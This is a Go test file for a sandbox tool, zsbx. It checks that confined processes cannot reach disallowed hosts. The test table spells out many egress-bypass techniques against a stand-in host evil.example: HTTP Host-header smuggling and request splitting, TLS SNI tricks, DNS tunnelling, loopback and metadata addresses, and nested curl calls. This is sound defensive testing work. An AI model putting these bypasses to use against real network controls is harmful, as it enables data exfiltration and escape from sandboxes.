package cmd

import (
	"regexp"
	"strings"
	"testing"
)

// hostsAttack is an act that must reach nothing. Without zsbx it does.
type hostsAttack struct {
	name   string
	script string // with ACT for the beginning of an act's command line
	bad    string // a pattern of what the servers must not see; "evil" if empty
	hosts  string // what is allowed; a.example on both ports if empty
	want   string // a pattern of what is printed nevertheless
}

// request returns a script that sends bytes, as in a string of Go, to an HTTP server that is allowed.
func request(text string) string { return "ACT dial a.example:80 '" + text + "'" }

const (
	good = `GET /x HTTP/1.1\r\nHost: a.example\r\n\r\n`
	evil = `GET /x HTTP/1.1\r\nHost: evil.example\r\n\r\n`
)

var hostsAttacks = []hostsAttack{
	// Other names and addresses.
	{name: "a name that is not allowed", script: "ACT get https://evil.example/x"},
	{name: "a name below one that is allowed", script: "ACT get https://evil.a.example.evil.example/x"},
	{name: "an address", script: "ACT dial 203.0.113.80:443 evil"},
	{name: "an address with IPv6", script: "ACT dial [2001:db8::66]:443 evil"},
	{name: "an address in another one", script: "ACT dial [::ffff:198.51.100.66]:443 evil"},
	{name: "DNS over TLS", script: "ACT dial 8.8.8.8:853 evil"},
	{name: "DNS over HTTPS", script: "ACT get https://8.8.8.8/dns-query?evil", bad: "8.8.8.8"},
	{name: "an address with a scope", script: "ACT sockaddr 28 7"},
	{name: "an address that is cut off", script: "ACT sockaddr 24 0"},
	{name: "a socket that was connected", script: "ACT again ''", want: "permission denied"},
	{name: "a copy of it", script: "ACT again copy", want: "permission denied"},
	{name: "another port", script: "ACT dial a.example:7 evil"},
	{name: "a fast open by sendto", script: "ACT fastopen sendto", bad: "tcp "},
	{name: "a fast open by sendmsg", script: "ACT fastopen sendmsg", bad: "tcp "},
	{name: "a fast open at connect", script: "ACT fastopen connect", bad: "tcp "},
	{name: "MPTCP", script: "ACT mptcp", bad: "tcp "},
	{name: "nested", script: "zsbx run --rw . --allow-host evil.example:80 -- curl -sS http://evil.example/x"},
	{name: "nested, all of the network", script: "zsbx run --rw . --net -- curl -sS http://evil.example/x"},
	{name: "nested, without the promise", script: "zsbx run --rw . --fallback warn --allow-gap hosts --allow-host evil.example:80 -- " +
		"curl -sS http://evil.example/x"},
	{name: "sockets that are inherited", script: "ACT pass", bad: "udp |tcp "},
	{name: "sockets that another program passes on", script: "ACT giver", bad: "tcp ", want: "denied|not permitted"},
	{name: "an address that changes", script: "ACT flip 300", bad: `at 198\.51\.100\.66`, hosts: "four.example:80", want: "[1-9][0-9]* connections"},
	{name: "a descriptor that changes", script: "ACT swap 300", bad: `at 198\.51\.100\.66`, hosts: "four.example:80", want: "swapped"},

	// Servers of this machine.
	{name: "127.0.0.1", script: "ACT dial 127.0.0.1:80 evil", bad: "tcp "},
	{name: "127.9.9.9", script: "ACT dial 127.9.9.9:80 evil", bad: "tcp "},
	{name: "::1", script: "ACT dial [::1]:80 evil", bad: "tcp "},
	{name: "0.0.0.0", script: "ACT dial 0.0.0.0:80 evil", bad: "tcp "},
	{name: "::", script: "ACT dial [::]:80 evil", bad: "tcp "},
	{name: "::ffff:127.0.0.1", script: "ACT dial [::ffff:127.0.0.1]:80 evil", bad: "tcp "},
	{name: "the peer's address", script: "ACT peer a.example:80 evil"},

	// Answers that are not public.
	{name: "an answer 127.0.0.1", script: "ACT get http://in127.example/x", bad: "tcp ", hosts: "in127.example:80"},
	{name: "an answer 10.0.0.1", script: "ACT get http://in10.example/x", bad: "tcp ", hosts: "in10.example:80"},
	{name: "an answer 169.254.169.254", script: "ACT get http://metadata.example/x", bad: "tcp ", hosts: "metadata.example:80"},
	{name: "an answer ::1", script: "ACT get http://in6.example/x", bad: "tcp ", hosts: "in6.example:80"},
	{name: "an answer ::ffff:10.0.0.1", script: "ACT get http://mapped.example/x", bad: "tcp ", hosts: "mapped.example:80"},
	{name: "the same, raw", script: "ACT dial in10.example:7 evil", bad: "tcp ", hosts: "in10.example:7"},
	{name: "the address of such an answer", script: "ACT get http://in10.example/x; ACT dial 10.0.0.1:80 evil", bad: "tcp ", hosts: "in10.example:80"},

	// TLS.
	{name: "another server name", script: "ACT hello evil.example", bad: "raw 443"},
	{name: "another one that is allowed", script: "ACT hello ssh.example", bad: "raw 443", hosts: "a.example ssh.example"},
	{name: "no server name", script: "ACT hello ''", bad: "raw 443"},
	{name: "an address as server name", script: "ACT hello 203.0.113.80", bad: "raw 443"},
	{name: "two server names", script: "ACT hello a.example,evil.example", bad: "raw 443"},
	{name: "two lists of server names", script: "ACT hello a.example evil.example", bad: "raw 443"},
	{name: "an empty list first", script: "ACT hello '' evil.example", bad: "raw 443"},
	{name: "a name with a NUL", script: `ACT hello 'a.example\x00.evil.example'`, bad: "raw 443"},
	{name: "a name with a blank", script: `ACT hello 'a.example '`, bad: "raw 443"},
	{name: "an encrypted ClientHello", script: "ACT ech", bad: "raw 443"},
	{name: "a ClientHello in pieces", script: "ACT pieces evil.example", bad: "raw 443"},
	{name: "64 KiB before the name", script: "ACT big evil.example", bad: "raw 443"},
	{name: "a ClientHello that does not end", script: "ACT half evil.example", bad: "raw 443"},
	{name: "another name in a second hello", script: "ACT second a.example evil.example"},
	{name: "no TLS", script: "ACT dial a.example:443 'GET /x HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"},
	{name: "SSH on a port for TLS", script: "ACT dial a.example:443 'SSH-2.0-evil\\r\\n'"},
	{name: "TLS for another name on a raw port", script: "ACT hello evil.example", bad: "raw 443", hosts: "a.example:443/tcp"},
	{name: "HTTP for another host on a raw port", script: request(evil), hosts: "a.example:80/tcp"},

	// HTTP.
	{name: "another host", script: request(evil)},
	{name: "a second request", script: request(good) + " '" + evil + "'"},
	{name: "a pipelined request", script: request(good + evil)},
	{name: "two hosts", script: request(`GET /x HTTP/1.1\r\nHost: a.example\r\nHost: evil.example\r\n\r\n`)},
	{name: "two hosts, the other first", script: request(`GET /x HTTP/1.1\r\nHost: evil.example\r\nHost: a.example\r\n\r\n`)},
	{name: "an absolute URL", script: request(`GET http://evil.example/x HTTP/1.1\r\nHost: a.example\r\n\r\n`)},
	{name: "a folded line", script: request(`GET /x HTTP/1.1\r\nHost: a.example\r\n Host: evil.example\r\n\r\n`)},
	{name: "a folded host", script: request(`GET /x HTTP/1.1\r\nHost:\r\n evil.example\r\n\r\n`)},
	{name: "lines that end in LF", script: request(`GET /x HTTP/1.1\nHost: evil.example\n\n`)},
	{name: "LF within", script: request(`GET /x HTTP/1.1\r\nX: y\nHost: evil.example\r\nHost: a.example\r\n\r\n`)},
	{name: "CR within", script: request(`GET /x HTTP/1.1\r\nX: y\rHost: evil.example\r\nHost: a.example\r\n\r\n`)},
	{name: "a NUL", script: request(`GET /x HTTP/1.1\r\nHost: a.example\x00.evil.example\r\n\r\n`)},
	{name: "a blank before the colon", script: request(`GET /x HTTP/1.1\r\nHost : evil.example\r\nHost: a.example\r\n\r\n`)},
	{name: "an address as host", script: request(`GET /evil HTTP/1.1\r\nHost: 203.0.113.80\r\n\r\n`)},
	{name: "another port of the host", script: request(`GET /evil HTTP/1.1\r\nHost: a.example:443\r\n\r\n`)},
	{name: "a host with a user", script: request(`GET /x HTTP/1.1\r\nHost: a.example@evil.example\r\n\r\n`)},
	{name: "HTTP/1.0 without host", script: request(`GET http://evil.example/x HTTP/1.0\r\n\r\n`)},
	{name: "HTTP/0.9", script: request(`GET /evil\r\n`)},
	{name: "an upgrade", script: request(`GET /x HTTP/1.1\r\nHost: a.example\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n` + evil)},
	{name: "CONNECT", script: request(`CONNECT evil.example:80 HTTP/1.1\r\nHost: a.example\r\n\r\n`)},
	{name: "CONNECT, then another host", script: request(`CONNECT a.example:80 HTTP/1.1\r\nHost: a.example\r\n\r\n` + evil)},
	{name: "HTTP/2", script: request(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil`)},
	{name: "both lengths", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nContent-Length: 4\r\n` +
		`Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + evil)},
	{name: "two lengths", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nContent-Length: 0\r\nContent-Length: 72\r\n\r\n` + evil)},
	{name: "a length that is not one", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nContent-Length: +0\r\n\r\n` + evil)},
	{name: "another encoding", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n` + evil)},
	{name: "a chunk with an extension", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n` +
		`0;\nevil\r\n\r\n` + evil)},
	{name: "after a body", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nContent-Length: 2\r\n\r\nxx` + evil)},
	{name: "after chunks", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n` + evil)},
	{name: "a trailer", script: request(`POST /x HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: evil.example\r\n\r\n`)},

	// Names.
	{name: "TXT", script: "ACT dns udp 203.0.113.1 a.example TXT", bad: "TXT"},
	{name: "MX", script: "ACT dns udp 203.0.113.1 a.example MX", bad: "MX"},
	{name: "SRV", script: "ACT dns udp 203.0.113.1 a.example SRV", bad: "SRV"},
	{name: "HTTPS", script: "ACT dns udp 203.0.113.1 a.example HTTPS", bad: "HTTPS|65"},
	{name: "ANY", script: "ACT dns udp 203.0.113.1 a.example ALL", bad: "ALL"},
	{name: "AXFR", script: "ACT dns tcp 203.0.113.1 a.example AXFR", bad: "AXFR"},
	{name: "NULL", script: "ACT dns udp 203.0.113.1 a.example NULL", bad: "a.example (10|NULL)"},
	{name: "labels as a tunnel", script: "ACT dns udp 203.0.113.1 $(printf %060d 0).$(printf %060d 0).$(printf %060d 0).evil.example A"},
	{name: "labels below an allowed name", script: "ACT dns udp 203.0.113.1 tunnel.a.example A", bad: "tunnel"},
	{name: "two questions", script: "ACT dns udp 203.0.113.1 a.example A tunnel.evil.example A"},
	{name: "another server", script: "ACT dns udp 8.8.8.8 a.example A", bad: `at 8\.8\.8\.8`},
	{name: "another server by TCP", script: "ACT dns tcp 8.8.8.8 a.example A", bad: `at 8\.8\.8\.8`},
	{name: "another server and name", script: "ACT dns udp 8.8.8.8 tunnel.evil.example TXT"},
	{name: "bytes that are no question", script: "ACT datagram sendto 203.0.113.1 53", bad: "dns "},
	{name: "a case as a channel", script: "ACT dns udp 203.0.113.1 A.eXaMpLe A", bad: "[A-Z].e|X"},

	// Datagrams.
	{name: "sendto", script: "ACT datagram sendto 198.51.100.66 9999", bad: "udp "},
	{name: "sendto this machine", script: "ACT datagram sendto 127.0.0.1 9999", bad: "udp "},
	{name: "QUIC", script: "ACT datagram sendto 203.0.113.80 443", bad: "udp "},
	{name: "connected", script: "ACT datagram connected 198.51.100.66 9999", bad: "udp "},
	{name: "sendmsg with a source", script: "ACT datagram pktinfo 198.51.100.66 9999", bad: "udp "},
	{name: "bound to a device", script: "ACT datagram device 198.51.100.66 9999", bad: "udp "},
	{name: "sendmmsg", script: "ACT datagram many 198.51.100.66 9999", bad: "udp "},
	{name: "with IPv6", script: "ACT datagram sendto 2001:db8::66 9999", bad: "udp "},
	{name: "in IPv6", script: "ACT datagram mapped 198.51.100.66 9999", bad: "udp "},

	// What ends or stops zsbx.
	{name: "zsbx is killed", script: "ACT stubborn", want: "."},
}

// TestHostsAttacks: what is not allowed does not arrive, though it does without zsbx.
func TestHostsAttacks(t *testing.T) {
	t.Parallel()
	needBed(t)
	for _, a := range hostsAttacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			b := newBed(t)
			for range 3 { // what arrives late is not in the log
				b.run(t, "sh", "-c", strings.ReplaceAll(a.script, "ACT ", b.act))
				if a.seen(b) {
					break
				}
			}
			if !a.seen(b) {
				t.Fatalf("control: without zsbx it prints\n%s\n%s", b.out, b.log)
			}
			a.confined(t, b)
		})
	}
}

// seen reports whether the servers have seen what they must not see.
func (a *hostsAttack) seen(b *bed) bool {
	bad := a.bad
	if bad == "" {
		bad = "evil"
	}
	return regexp.MustCompile(bad).MatchString(b.log)
}

// confined does the act with a network by name.
func (a *hostsAttack) confined(t *testing.T, b *bed) {
	t.Helper()
	hosts := a.hosts
	if hosts == "" {
		hosts = "a.example a.example:80"
	}
	script := "ZSBX -- sh -c \"$SCRIPT\""
	inside := strings.ReplaceAll(a.script, "ACT ", b.act)
	switch a.script {
	case "ACT pass":
		script = "ACT pass ZSBX -- "
	case "ACT giver":
		script = "ACT giver ZSBX --unix . -- "
	case "ACT stubborn":
		script = "ZSBX -- ACT stubborn & p=$!; sleep 0.4; kill -STOP $p; sleep 0.3; kill -CONT $p; sleep 0.2; kill -9 $p; sleep 1; echo end"
	}
	b.env = append(b.env, "SCRIPT="+inside)
	status := b.run(t, "sh", "-c", b.line(script, hosts))
	started := status < 98 || status > 127 || strings.HasPrefix(a.script, "zsbx ")
	if a.seen(b) || !started || !regexp.MustCompile(a.want).MatchString(b.out) {
		t.Errorf("exit status %d, it prints\n%s\n%s", status, b.out, b.log)
	}
}
